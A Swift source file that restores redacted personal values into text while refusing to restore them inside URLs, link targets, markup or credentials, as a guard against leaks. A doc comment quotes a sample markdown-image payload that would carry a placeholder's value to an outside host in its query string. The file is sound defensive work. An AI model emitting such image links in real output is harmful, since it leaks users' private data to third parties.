/// A text with placeholders replaced by their values again, where that is safe.
///
/// Restoring is a way to leak: an answer with `![](https://example.com/?q=[EMAIL_1])` would carry
/// the value out. So nothing is restored inside URLs, link targets or markup, before or after the
/// values are put in.
public struct Restoration: Sendable, Hashable {
  /// Why a placeholder was left as it is.
  public enum Reason: String, Sendable, Hashable, Codable {
    /// Its value would become part of a URL, a link's target or markup.
    case unsafePlace = "unsafe-place"
    /// It stands for a credential.
    case credential
  }

  /// A placeholder that was left as it is.
  public struct Left: Sendable, Hashable {
    /// The placeholder.
    public var placeholder: String
    /// Where it stands in the restored text, in UTF-8 bytes.
    public var range: Range<Int>
    /// Why.
    public var reason: Reason
  }

  /// The restored text.
  public let text: [UInt8]
  /// How many places got their value back.
  public let restoredCount: Int
  /// The placeholders of the vault that were left as they are.
  public let left: [Left]

  /// Puts the values of a vault back into a text.
  public init(of text: [UInt8], from vault: Vault) {
    let occurrences = Placeholder.occurrences(in: text)
    let zones = UnsafeZones(in: text)
    var safe = occurrences.filter { occurrence in
      vault.values[occurrence.name] != nil && !vault.withheld.contains(occurrence.name)
        && !zones.touch(occurrence.range, inside: nil)
    }
    // A value can itself open a URL or a tag around its neighbours, so look again until none does.
    var draft = Draft(text, occurrences, safe.map(\.range), vault)
    while true {
      let zones = UnsafeZones(in: draft.text)
      let unsafe = draft.restored.filter { zones.touch($0.value, inside: $0.value) }
      guard !unsafe.isEmpty else { break }
      safe.removeAll { unsafe[$0.range.lowerBound] != nil }
      draft = Draft(text, occurrences, safe.map(\.range), vault)
    }
    self.text = draft.text
    restoredCount = safe.count
    left = draft.left
  }

  /// One try: the text with some of the placeholders replaced.
  private struct Draft {
    var text: [UInt8] = []
    /// Where values stand now, by the place of their placeholder in the original.
    var restored: [Int: Range<Int>] = [:]
    var left: [Left] = []

    init(
      _ original: [UInt8], _ occurrences: [Placeholder.Occurrence], _ safe: [Range<Int>],
      _ vault: Vault
    ) {
      let safe = Set(safe.map(\.lowerBound))
      var position = 0
      for occurrence in occurrences {
        text += original[position..<occurrence.range.lowerBound]
        position = occurrence.range.upperBound
        let start = text.count
        if safe.contains(occurrence.range.lowerBound), let value = vault.values[occurrence.name] {
          text += Array(value.utf8)
          restored[occurrence.range.lowerBound] = start..<text.count
          continue
        }
        text += Array(occurrence.name.utf8)
        let isCredential = vault.withheld.contains(occurrence.name)
        guard isCredential || vault.values[occurrence.name] != nil else { continue }
        left.append(
          Left(
            placeholder: occurrence.name, range: start..<text.count,
            reason: isCredential ? .credential : .unsafePlace))
      }
      text += original[position...]
    }
  }
}
